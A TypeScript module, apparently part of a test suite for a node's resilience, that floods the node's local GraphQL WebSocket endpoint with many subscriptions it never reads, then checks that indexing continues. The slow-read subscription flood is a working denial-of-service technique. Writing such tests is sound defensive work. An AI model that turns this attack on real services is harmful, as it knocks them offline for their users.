import { WebSocket } from "ws";
import type { Attack } from "../Attack.js";
import type { AttackedNode } from "../AttackedNode.js";
import { indexGoesOn } from "./indexGoesOn.js";
import { aliased } from "./manyAliases.js";
import { attackerOf, repeat } from "./requests.js";

const connections = 25;
const subscriptions = 10;
const pingMs = 1_000;

/** Sockets that subscribe to large answers and read none. */
export const unreadSubscriptions: Attack<AttackedNode> = {
  name: "GraphQL: sockets that subscribe and never read",
  async run(target, enough) {
    const { http } = target.ports;
    await repeat(enough, connections, (index) => subscribe(http, attackerOf(index), enough));
    await indexGoesOn(target);
    return [];
  },
};

/** Resolves when the node has ended the connection, or there is enough. */
function subscribe(port: number, localAddress: string, enough: AbortSignal): Promise<void> {
  const options = { localAddress, headers: { host: "localhost" } };
  const socket = new WebSocket(`ws://127.0.0.1:${port}/graphql`, "graphql-transport-ws", options);
  socket.once("open", () => {
    socket.send(JSON.stringify({ type: "connection_init" }));
    socket.once("message", () => {
      socket.pause();
      for (let id = 0; id < subscriptions; id += 1) {
        const query = `subscription ${aliased(1 + (id % 3), 1 + (id % 5))}`;
        socket.send(JSON.stringify({ type: "subscribe", id: String(id), payload: { query } }));
      }
    });
  });
  return new Promise((resolve) => {
    const pings = setInterval(() => socket.readyState === WebSocket.OPEN && socket.ping(), pingMs);
    const end = () => {
      clearInterval(pings);
      enough.removeEventListener("abort", end);
      socket.terminate();
      resolve();
    };
    socket.on("error", end);
    // A paused WebSocket does not report its end; the connection below it does.
    socket.once("upgrade", ({ socket: connection }) => connection.once("close", end));
    enough.addEventListener("abort", end);
    if (enough.aborted) end();
  });
}
